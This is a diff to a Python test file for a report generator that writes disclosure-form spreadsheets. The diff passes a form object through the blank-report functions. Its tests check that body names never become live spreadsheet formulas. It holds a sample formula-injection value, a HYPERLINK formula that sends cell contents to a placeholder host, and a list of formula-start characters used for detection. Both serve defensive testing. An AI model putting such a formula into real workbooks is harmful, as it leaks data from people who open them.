@@ -10,14 +10,16 @@ from typing import Any
 import openpyxl
 import pytest
 from door import INPUTS, Docgen, write_json
+from forms import FORMS
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from docgen.blank import blank_report, write_blank
 from docgen.errors import UsageStop
-from docgen.model import Body, Report
+from docgen.model import Body, Reading, Report
 from docgen.read import read_report
 
+FORM = FORMS["disclosure-2021"]
 LINK = '=HYPERLINK("http://example.invalid/?"&A1,"某镇人民政府")'
 #: What a spreadsheet takes for the beginning of a formula.
 BEGINNINGS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r")
@@ -78,10 +80,10 @@ def test_a_name_is_refused_or_reads_back_as_it_is(name: str) -> None:
     with tempfile.TemporaryDirectory() as folder:
         for workbook in (False, True):
             try:
-                report = blank_report(2025, name, None)
+                report = blank_report(FORM, 2025, name)
             except UsageStop:
                 continue
-            paths = write_blank(report, Path(folder), workbook=workbook)
+            paths = write_blank(FORM, report, Path(folder), workbook=workbook)
             if not workbook:
                 assert [cell for path in paths for cell in live(path.read_bytes())] == []
             back = read_report(Path(folder, "2025.xlsx" if workbook else "2025")).report
@@ -143,6 +145,7 @@ def test_a_report_on_a_workbook_keeps_its_sums_only(docgen: Docgen, folder: Path
 def test_names_that_look_like_figures_are_no_formulas() -> None:
     """A body's name that begins with a digit or a bracket is a name."""
     for name in ("117团", "（筹）甲镇人民政府", "甲=乙镇"):
-        assert blank_report(2025, name, None).body.name == name
+        assert blank_report(FORM, 2025, name).body.name == name
+    report = Report(form=FORM.key, year=2024, body=Body(name=LINK))
     with pytest.raises(UsageStop):
-        blank_report(2025, "", Report(form="disclosure-2021", year=2024, body=Body(name=LINK)))
+        blank_report(FORM, 2025, "", Reading("2024", FORM, report, {}, frozenset(), (), {}))
